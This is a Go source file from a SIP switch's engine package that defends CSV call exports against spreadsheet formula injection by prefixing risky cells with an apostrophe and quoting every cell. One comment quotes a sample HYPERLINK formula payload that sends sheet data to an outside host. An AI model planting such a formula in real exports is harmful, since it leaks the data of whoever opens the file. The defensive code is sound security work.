package engine

import (
	"bufio"
	"io"
	"strings"
)

// CSV the switch writes is opened in spreadsheets (billing staff open
// `sipswitch calls export`), and a spreadsheet evaluates a cell that
// begins with '=', '+', '-' or '@' as a formula (OWASP "CSV Injection";
// CWE-1236): a called number dialled as =HYPERLINK("http://x/?"&A1) would
// send the sheet's data away when the file is opened. Every cell the
// switch writes goes through spreadsheetCell, and every record through
// csvWriter, which also quotes every cell.

// spreadsheetCell neutralises one CSV cell as OWASP and ASVS 1.2.10
// recommend: a cell that begins with '=', '+', '-', '@', tab, CR, LF or
// NUL gets a leading apostrophe, which spreadsheets take as "this cell is
// text" and do not show. A cell that begins with an apostrophe gets one
// too, so the neutralisation can be undone exactly: a program reading the
// export drops one leading apostrophe from any cell that has one.
//
// INFERRED: a plain number — an optional sign, digits, optionally a point
// and digits (+442071234567, -1, 0.25) — is left as it is, so numbers stay
// numbers in a spreadsheet and in a program. Such a cell cannot be a
// formula that does anything: it has no function, reference or operator
// after its sign, so a spreadsheet that evaluates it (Excel and
// LibreOffice read "+44" as the number 44) gets that number and nothing
// else. A spreadsheet shows +442071234567 as 442071234567, as it did
// before; the file keeps the plus.
func spreadsheetCell(cell string) string {
	if cell == "" || plainNumber(cell) {
		return cell
	}
	switch cell[0] {
	case '=', '+', '-', '@', '\t', '\r', '\n', 0, '\'':
		return "'" + cell
	}
	return cell
}

// plainNumber reports whether s is [+-]?[0-9]+(\.[0-9]+)?.
func plainNumber(s string) bool {
	if s[0] == '+' || s[0] == '-' {
		s = s[1:]
	}
	whole, frac, dotted := strings.Cut(s, ".")
	return allDigits(whole) && (!dotted || allDigits(frac))
}

func allDigits(s string) bool {
	if s == "" {
		return false
	}
	for i := 0; i < len(s); i++ {
		if s[i] < '0' || s[i] > '9' {
			return false
		}
	}
	return true
}

// csvWriter writes RFC 4180 records for spreadsheets: every cell passed
// through spreadsheetCell and enclosed in double quotes (an embedded quote
// doubled), records ended by "\n" as encoding/csv ends them. Quoting every
// cell, not only those holding a comma, keeps a cell whole where the
// spreadsheet splits fields on ';' (Excel in locales whose list separator
// it is): unquoted, "1;=2+3" would become a second cell beginning with '='.
type csvWriter struct {
	w *bufio.Writer
}

// newCSVWriter writes to w; Flush it at the end.
func newCSVWriter(w io.Writer) *csvWriter { return &csvWriter{w: bufio.NewWriter(w)} }

// Write writes one record. Errors are the underlying writer's.
func (c *csvWriter) Write(record []string) error {
	for i, cell := range record {
		if i > 0 {
			c.w.WriteByte(',')
		}
		c.w.WriteByte('"')
		cell = spreadsheetCell(cell)
		for {
			q := strings.IndexByte(cell, '"')
			if q < 0 {
				break
			}
			c.w.WriteString(cell[:q+1])
			c.w.WriteByte('"')
			cell = cell[q+1:]
		}
		c.w.WriteString(cell)
		c.w.WriteByte('"')
	}
	_, err := c.w.WriteString("\n")
	return err
}

// Flush writes what is buffered.
func (c *csvWriter) Flush() error { return c.w.Flush() }
